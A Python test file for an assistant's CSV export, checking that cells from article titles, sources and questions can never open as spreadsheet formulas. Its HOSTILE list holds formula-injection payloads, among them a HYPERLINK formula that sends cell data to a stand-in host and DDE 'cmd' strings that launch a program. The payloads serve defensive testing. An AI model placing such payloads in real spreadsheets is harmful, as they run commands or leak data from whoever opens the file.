"""A table for spreadsheets holds what an article says, and never a formula that an article wrote."""

import csv
import json
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant import Assistant
from assistant.cli import main
from assistant.cli.rendering.csv_table import write_csv
from assistant.conversations.store import ConversationStore
from assistant.ingest.errors import UsageError

OPENS_FORMULA = tuple("=+-@\t\r＝＋－＠")
HOSTILE = [
    '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n\n=1+1",
    "  =1+1",
    '"=1+1',
    "\u200b=1+1",
    "＝1+1",
    "Ferry;=1+1;+2",
    "Ferry\r\n=1+1",
]
HARMLESS = ["Ferry sails", "3 = 2 + 1", "a-b@c.example; no", "1,5", 'She said "no"', "Ærø; 50 % more", ""]


def written(file: Path) -> list[list[str]]:
    with file.open(encoding="utf-8-sig", newline="") as opened:
        return list(csv.reader(opened))


def is_formula(cell: str) -> bool:
    """Checks whether a spreadsheet may read a cell, or a piece of it after a semicolon, as a formula."""
    return any(piece.lstrip(' "\u200b\ufeff').startswith(OPENS_FORMULA) for piece in cell.split(";"))


def test_what_is_not_safe_is_noticed() -> None:
    assert all(map(is_formula, ["=1", "\t=1", "Ferry;=1", "  =1"]))
    assert not any(map(is_formula, HARMLESS))


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_becomes_a_formula(tmp_path: Path, text: str) -> None:
    write_csv(tmp_path / "table.csv", ["a", "b"], [[text, "x"]])
    (_, (cell, other)) = written(tmp_path / "table.csv")
    assert not is_formula(cell)
    assert other == "x"
    assert cell.replace("'", "").replace("\u200b", "") == " ".join(text.replace("'", "").replace("\u200b", "").split())


@given(st.text())
def test_whatever_the_text_is_it_is_one_cell_of_one_line_and_no_formula(
    tmp_path_factory: pytest.TempPathFactory, text: str
) -> None:
    file = tmp_path_factory.getbasetemp() / "any.csv"
    write_csv(file, ["a", "b"], [[text.encode("utf-8", "replace").decode(), 1]])
    (_, (cell, _)) = written(file)
    assert not is_formula(cell)
    assert len(cell.splitlines()) <= 1


def test_harmless_text_numbers_and_days_stay_as_they_are(tmp_path: Path) -> None:
    file = tmp_path / "table.csv"
    write_csv(file, ["text", "number", "day"], [[text, -3.5, date(2026, 5, 1)] for text in HARMLESS])
    assert written(file)[1:] == [[text, "-3.5", "2026-05-01"] for text in HARMLESS]
    assert file.read_bytes().startswith(b"\xef\xbb\xbf"), "or spreadsheets take it for another encoding"


def test_articles_are_listed_as_a_table_with_hostile_titles_made_harmless(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    library, source, table = tmp_path / "library", tmp_path / "articles.jsonl", tmp_path / "articles.csv"
    records = [
        {
            "id": f"=id{number}",
            "title": title,
            "source": "@Post",
            "date": "2026-05-01",
            "text": f"Kiosk {number} opened.",
        }
        for number, title in enumerate(HOSTILE)
    ]
    source.write_text("".join(json.dumps(article) + "\n" for article in records), "utf-8")
    with Assistant.open(library) as assistant:
        assert len(assistant.ingest(source).added) == len(HOSTILE)
    assert main(["articles", "list", "--library", str(library), "--csv", str(table)]) == 0
    assert capsys.readouterr().out == ""
    header, *rows = written(table)
    assert header == ["id", "published", "source", "title", "url", "words", "language"]
    assert len(rows) == len(HOSTILE)
    assert not [cell for row in rows for cell in row if is_formula(cell)]
    assert {(row[1], row[2], row[5]) for row in rows} == {("2026-05-01", "'@Post", "3")}


def test_ratings_are_written_as_a_table(tmp_path: Path) -> None:
    library, table = tmp_path / "library", tmp_path / "ratings.csv"
    question = "=1+1 Who won the cup?"
    with Assistant.open(library) as assistant, ConversationStore(library) as store:
        conversation = store.create("reader").summary.id
        turn = store.add_turn("reader", conversation, assistant.ask(question))
        store.rate("reader", conversation, turn.number, "down")
    assert main(["feedback", "--library", str(library), "--csv", str(table)]) == 0
    header, row = written(table)
    shown = dict(zip(header, row, strict=True))
    assert shown["question"] == f"'{question}"
    assert (shown["rating"], shown["status"], float(shown["confidence"])) == ("down", "not_found", 0.0)
    assert not any(map(is_formula, row))


def test_a_table_that_cannot_be_written_is_one_clear_line_and_leaves_what_was_there(
    tmp_path: Path, samples: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "file").write_text("")
    for place in (tmp_path / "gone" / "table.csv", tmp_path / "file" / "table.csv", tmp_path):
        assert main(["articles", "list", "--library", str(samples), "--csv", str(place)]) == 2
        assert "cannot be written" in capsys.readouterr().err
    (tmp_path / "file").unlink()
    file = tmp_path / "table.csv"
    file.write_text("as it was")

    def breaks_off():
        yield ["x"]
        raise UsageError("no more")

    with pytest.raises(UsageError):
        write_csv(file, ["a"], breaks_off())
    assert file.read_text() == "as it was"
    assert list(tmp_path.iterdir()) == [file]
